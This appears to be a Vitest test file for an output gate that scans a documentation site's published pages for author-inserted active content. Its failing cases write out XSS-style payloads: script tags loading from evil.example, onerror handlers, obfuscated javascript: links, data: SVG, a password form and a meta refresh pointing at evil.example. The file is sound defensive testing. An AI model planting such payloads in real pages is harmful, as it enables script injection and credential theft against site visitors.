import { describe, expect, it } from 'vitest';
import { checkPublishedPage } from '../../../src/core/security/output-gate.ts';

/** A page as DocLayout writes it: site markup around the article's prose, which is the author's. */
const pageWith = (prose: string, around = '') =>
  `<!doctype html><html><head><script type="module" src="/_astro/ui.js"></script></head><body><main><article class="content" data-pagefind-body><h1>T</h1>${around}<div class="prose">${prose}</div><script type="module" src="/_astro/kc.js"></script></article></main></body></html>`;

describe('checkPublishedPage: the markup the site itself puts in the page body passes', () => {
  it('passes GitHub-style HTML, code titles, task lists, knowledge checks and a big section list', () => {
    const prose = [
      '<h2 id="x"><a class="heading-anchor" href="#x" aria-label="Link"><span class="heading-anchor-icon" aria-hidden="true">#</span></a>X</h2>',
      '<p><a href="https://docs.docker.com/" rel="noopener">docs</a> <a href="mailto:a@example.com">mail</a> <a href="../other/">other</a> <img src="/_astro/a.webp" alt="a"></p>',
      '<figure class="code-block"><figcaption class="code-title">compose.yaml</figcaption><pre class="astro-code" tabindex="0"><code><span class="line">x</span></code></pre></figure>',
      '<ul><li><input type="checkbox" disabled> task</li></ul>',
      '<div class="knowledge-check" data-knowledge-check="single"><fieldset><legend>Q</legend><ul class="kc-options"><li><label class="kc-option"><input type="radio" name="k" value="0" data-correct="true"><span>A</span></label></li></ul>',
      '<p class="kc-actions"><button type="button" class="kc-check" data-kc-check hidden>Check</button></p></fieldset><details class="kc-answer"><summary>Show</summary><p>A</p></details></div>',
      '<nav class="section-pages" aria-labelledby="s"><h2 id="s">All pages</h2><ol><li><a href="/a/">A</a></li></ol></nav>',
      // A site component an MDX page uses (Breadcrumbs): inert elements GitHub would drop for styling reasons.
      '<nav class="breadcrumbs" aria-label="Breadcrumb"><ol><li><a href="/">Home</a></li></ol></nav><figure><figcaption>x</figcaption></figure><small><time datetime="2026-01-01">1 Jan</time></small>',
    ].join('');
    // Outside the prose: the site's own components, scripts included, are not the author's.
    expect(checkPublishedPage(pageWith(prose, '<form class="lesson-done"><button>Done</button></form>'))).toEqual([]);
  });
});

describe('checkPublishedPage: a bypass of the input checks fails', () => {
  it.each([
    ['a script', '<script>alert(1)</script>', '<script> in the page body'],
    [
      'a script inside an allowed element',
      '<details><summary>x</summary><script src="https://evil.example/x.js"></script></details>',
      '<script> in the page body',
    ],
    ['an event handler', '<img src="x.png" alt="" onerror="alert(1)">', '<img onerror> in the page body (event handlers run script)'],
    [
      'a javascript: link',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="javascript:alert(1)"> in the page body (the javascript: scheme is not published)',
    ],
    ['a javascript: link spelled with a tab', '<a href="java&#9;script:alert(1)">x</a>', 'the javascript: scheme is not published'],
    ['a data: image', '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">', 'the data: scheme is not published'],
    [
      'a data: candidate in srcset',
      '<picture><source srcset="/a.png 1x, data:image/png;base64,AA 2x"><img src="/a.png" alt=""></picture>',
      'the data: scheme is not published',
    ],
    ['a form', '<form action="https://evil.example/"><input name="password"></form>', '<form> in the page body'],
    ['a frame', '<iframe src="https://example.com/"></iframe>', '<iframe> in the page body'],
    ['an object', '<object data="x.swf"></object>', '<object> in the page body'],
    ['inline SVG', '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', '<svg> in the page body'],
    ['a style element', '<style>body{display:none}</style>', '<style> in the page body'],
    ['a style attribute', '<p style="position:fixed;inset:0">fake login</p>', '<p style> in the page body'],
    ['a button outside a knowledge check', '<button type="button">x</button>', '<button> in the page body'],
    ['a text input', '<input type="text">', '<input type="text"> in the page body'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<meta> in the page body'],
    ['a custom element, which a script could bring to life', '<x-widget data-src="https://evil.example/"></x-widget>', '<x-widget> in the page body'],
    ['a portal', '<portal src="https://evil.example/"></portal>', '<portal> in the page body'],
    [
      'a knowledge check look-alike without its data attribute',
      '<div class="knowledge-check"><button type="button">x</button></div>',
      '<button> in the page body',
    ],
  ])('%s', (_, prose, says) => {
    const problems = checkPublishedPage(pageWith(prose));
    expect(problems.length, problems.join('\n')).toBeGreaterThan(0);
    expect(problems.join('\n')).toContain(says);
  });

  it('names the same thing once, however often it appears', () => {
    expect(checkPublishedPage(pageWith('<script>1</script><p><script>2</script></p>'))).toEqual([
      '<script> in the page body (scripts, styles, frames, forms and embedded documents are never published)',
    ]);
  });
});

describe('checkPublishedPage: finding the author part', () => {
  it('fails a page whose layout no longer marks it, rather than check nothing', () => {
    expect(checkPublishedPage('<html><body><main><script>alert(1)</script></main></body></html>')).toEqual([
      'no <div class="prose"> in its <article>, so the author\'s part cannot be found (src/layouts/DocLayout.astro marks it)',
    ]);
  });

  it('checks the whole article when the author nests one of their own', () => {
    const problems = checkPublishedPage(pageWith('<article><p>x</p></article><p><a href="javascript:alert(1)">y</a></p>'));
    expect(problems.join('\n')).toContain('the javascript: scheme is not published');
  });
});
